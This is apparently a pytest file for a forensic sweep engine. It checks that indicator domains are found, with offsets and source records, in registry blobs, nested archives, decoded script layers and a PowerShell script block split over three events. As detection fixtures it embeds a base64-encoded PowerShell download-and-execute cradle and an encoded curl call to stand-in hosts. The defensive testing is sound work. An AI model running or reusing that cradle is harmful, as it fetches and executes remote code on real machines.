"""An indicator wherever it can be in the evidence: each place is found, with the record and the offset that it cites."""

from __future__ import annotations

import base64
import io
import tarfile
import zipfile

import pytest

from commodore.case.reader import CaseReader
from commodore.engine.process import process
from fixtures.windows.evtx import Event, build
from tests.commodore.cases import records
from tests.commodore.registry_hives import hive

WORD = "evil.example"
LOG = "Windows/System32/winevt/Logs/Microsoft-Windows-PowerShell%4Operational.evtx"
HIDDEN = "IEX (New-Object Net.WebClient).DownloadString('http://cdn.block.example/a')"


def script_block() -> list[Event]:
    """One script block in three events. The encoded command and a name in clear text are each cut by the end of an event."""
    text = f"# {'x' * 40} clear.example\npowershell -enc {base64.b64encode(HIDDEN.encode('utf-16-le')).decode()} # {'y' * 30}\n"
    third = len(text) // 3
    parts = [text[:third], text[third : 2 * third], text[2 * third :]]
    data = [
        {"MessageNumber": str(n), "MessageTotal": "3", "ScriptBlockText": part, "ScriptBlockId": "b"} for n, part in enumerate(parts, 1)
    ]
    return [
        Event(
            "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104,
            132_000_000_000_000_000 + n, "2019-04-18T10:00:00.0000000Z", "HOST", one,
        )
        for n, one in enumerate(data)
    ]  # fmt: skip


def packed(name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return out.getvalue()


def tarred(name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        entry = tarfile.TarInfo(name)
        entry.size = len(content)
        archive.addfile(entry, io.BytesIO(content))
    return out.getvalue()


BLOB = b"\x01\x02\x03\xff" + f"beacon to {WORD} now".encode("utf-16-le") + bytes(8)
INNER = b"line one\nhost nested.example here\n"
ENCODED = base64.b64encode(b"curl http://layer.example/x " * 2).decode()
LAYER = f"$s = [Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('{ENCODED}'))\n"


@pytest.fixture(scope="module")
def case(tmp_path_factory):
    place = tmp_path_factory.mktemp("everywhere")
    files = {
        "Windows/System32/config/SOFTWARE": hive({"Acme\\Store": {"blob": BLOB}}),
        "Windows/System32/winevt/Logs/Microsoft-Windows-PowerShell%4Operational.evtx": build(script_block()),
        "Users/anne/outer.zip": packed("inner.tgz", tarred("deep/notes.txt", INNER)),
        "Users/anne/run.ps1": LAYER.encode(),
        "ProgramData/cache.bin": bytes(5000) + b"unread.example" + bytes(100),
    }
    for path, content in files.items():
        target = place / "C" / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(content)
    names = [WORD, "nested.example", "layer.example", "unread.example", "block.example"]
    (place / "ioc.txt").write_text("".join(f"{name}\n" for name in names))
    process([place / "C"], place / "case", iocs=[place / "ioc.txt"], workers=1)
    return place / "case"


def swept(case, name: str) -> list[dict]:
    return [record for record in records(case, "sweep") if record["rule.id"] == f"domain:{name}"]


def test_in_a_blob_of_a_hive(case):
    (value,) = [r for r in records(case, "registry") if r.get("registry.value") == "blob"]
    in_value = [r for r in swept(case, WORD) if r.get("escadre.sweep.layer") == "registry.data.bytes"]
    assert [(r["escadre.sweep.offset"], r["escadre.records_used"]) for r in in_value] == [(BLOB.index(b"e\0v\0"), [value["escadre.id"]])]


def test_in_an_archive_in_an_archive(case):
    (found,) = [r for r in swept(case, "nested.example") if r["escadre.sweep.layer"].endswith("deep/notes.txt")]
    assert found["escadre.sweep.offset"] == INNER.index(b"nested")
    assert found["file.path"].endswith("outer.zip")
    (entry,) = [r for r in records(case, "archive_contents") if r["escadre.archive.entry"].endswith("deep/notes.txt")]
    assert found["escadre.records_used"] == [entry["escadre.id"]]


def test_in_a_decoded_layer_of_a_script(case):
    found = [r for r in swept(case, "layer.example") if r.get("escadre.sweep.layer")]
    assert found
    (script,) = [r for r in records(case, "scripts") if r["file.path"].endswith("run.ps1")]
    assert all(r["escadre.records_used"] == [script["escadre.id"]] for r in found)
    assert {r["escadre.sweep.offset"] for r in found} == {len("curl http://"), len("curl http://layer.example/x ") + len("curl http://")}


def test_in_a_member_that_no_artefact_reads(case):
    (found,) = swept(case, "unread.example")
    assert (found["escadre.sweep.offset"], found["file.path"].endswith("cache.bin")) == (5000, True)
    assert "escadre.records_used" not in found


def test_in_a_layer_of_a_script_block_in_three_events(case):
    events = [r["escadre.id"] for r in records(case, "evtx")]
    (decoded,) = records(case, "decoded_commands")
    assert sorted(decoded["escadre.records_used"]) == sorted(events)
    assert len(events) == 3
    (found,) = [f for f in CaseReader(case).findings() if f["rule.id"] == "domain:block.example"]
    assert found["escadre.records"] == [decoded["escadre.id"]]
